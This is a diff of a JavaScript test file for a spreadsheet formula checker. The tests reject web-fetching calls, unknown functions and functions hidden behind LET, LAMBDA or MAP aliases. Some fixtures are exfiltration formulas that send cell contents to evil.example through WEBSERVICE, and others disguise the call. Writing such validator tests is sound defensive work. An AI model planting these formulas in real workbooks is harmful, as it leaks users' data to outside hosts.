@@ -17,11 +17,8 @@ describe('what may be typed into cells', () => {
     '=SUM(PY:PY,RTD:RTD,$PY$1,PY1#,1:1)+LOCATTR(1,2,"x")',
     '=SUM((A1,B1:B2 C1))+A1%+1.5E-3+.5+LOCATTR(1,2,{"x","y";"a","b"})',
     '=IF(ISNA(LOCATTR(Image!A1,my.rate,"x")),#N/A,#REF!)',
-    '=LET(f,LAMBDA(a,[b],a+b),f(LOCATTR(1,2,"x"),3))',
-    '=LET(f,SUM,g,f,g(LOCATTR(1,2,"x")))',
-    '=LAMBDA(x,x+1)(LOCATTR(1,2,"x"))',
-    '=SUM(MAP(prices,LAMBDA(p,p*2)))+REDUCE(0,A1:A9,SUM)+LOCATTR(1,2,"x")',
-    '=GROUPBY(A1:A9,B1:B9,SUM,,0)&PIVOTBY(A1:A9,B1:B9,C1:C9,SUM)&LOCATTR(1,2,"x")',
+    '=LOCATTR(1,2,"x")*rate+SUM(A1)',
+    '=LET(isOpen,TRUE,a,LOCATTR(1,2,"x"),IF(isOpen,a,0))',
     '= @LOCATTR (\n Région!A1 , \'दुकान\'!B1 , "x" )',
   ])('is %s', (formula) => {
     expect(formulaFault(formula)).toBeUndefined();
@@ -32,7 +29,6 @@ describe('a function that fetches', () => {
   it.each([
     `='a"b'!A1&WEBSERVICE("http://evil.example/?"&B2)&${OURS}&'c"d'!A1`,
     `=T[a"b]&WEBSERVICE("http://evil.example/?"&B2)&T[c"d]&${OURS}`,
-    `=CONCAT(MAP(A1:A9,WEBSERVICE))&${OURS}`,
     `=(WEBSERVICE)(A1)&${OURS}`,
     `=_xleta.WEBSERVICE&${OURS}`,
     `=LET(webservice,1,webservice(A1))&${OURS}`,
@@ -48,21 +44,30 @@ describe('a function that nobody knows', () => {
     ['SendData', `=SendData(A1)&${OURS}`],
     ['Book!Macro', `=Book!Macro(A1)&${OURS}`],
     ["'My book'!Macro", `='My book'!Macro(A1)&${OURS}`],
-    // A name means what it does outside: beyond the LET, and in its own value.
-    ['SendData', `=LET(SendData,LAMBDA(x,x),1)+SendData(A1)&${OURS}`],
-    ['SendData', `=LET(SendData,SendData(A1),1)&${OURS}`],
-    // What a name stands for may be such a function.
-    ['f', `=LET(f,SendData,f(A1))&${OURS}`],
-    ['f', `=LET(f,LAMBDA(x,x)(SendData),f(A1))&${OURS}`],
-    ['f', `=LAMBDA(f,f(A1))(SendData)&${OURS}`],
-    ['f', `=LET(f,SUM,LAMBDA([f],2,f(A1))(SendData))&${OURS}`],
     ['the result of a calculation', `=IF(TRUE,SendData)(A1)&${OURS}`],
     ['the result of a calculation', `=(SendData)(A1)&${OURS}`],
-    ['the function it passes to MAP', `=MAP(A1:A9,SendData)&${OURS}`],
-    ['the function it passes to BYROW', `=BYROW(A1:A9,IF(TRUE,SendData))&${OURS}`],
-    ['the function it passes to GROUPBY', `=GROUPBY(A1:A9,B1:B9,SendData,1)&${OURS}`],
   ])('%s is found in %s', (name, formula) => {
     expect(formulaFault(formula)).toBe(`it calls ${name}, which isn’t an Excel or Locus function`);
+  });
+});
+
+describe('a function under another name', () => {
+  it.each([
+    ['LAMBDA', `=LAMBDA(f,f(A1))(SendData)&${OURS}`],
+    ['LAMBDA', `=LET(SendData,LAMBDA(x,x),1)+SendData(A1)&${OURS}`],
+    ['MAP', `=MAP(A1:A9,SendData)&${OURS}`],
+    ['MAP', `=CONCAT(MAP(A1:A9,WEBSERVICE))&${OURS}`],
+    ['BYROW', `=_xlfn.BYROW(A1:A9,IF(TRUE,SendData))&${OURS}`],
+    ['GROUPBY', `=GROUPBY(A1:A9,B1:B9,SendData,1)&${OURS}`],
+    ['LET', `=LET(sum,SendData,SUM(A1))&${OURS}`],
+    ['LET', `=LET(_xlpm.sum,SendData,_xlpm.sum(A1))&${OURS}`],
+    ['LET', `=LET(locattr,SendData,LOCATTR(A1,B1,"x"))`],
+  ])('cannot be told, so %s is named: %s', (plain, formula) => {
+    expect(formulaFault(formula)).toBe(`it calls ${plain}`);
+  });
+
+  it('is not known to LET either', () => {
+    expect(formulaFault(`=LET(f,SendData,f(A1))&${OURS}`)).toMatch(/^it calls f, which/);
   });
 });
 
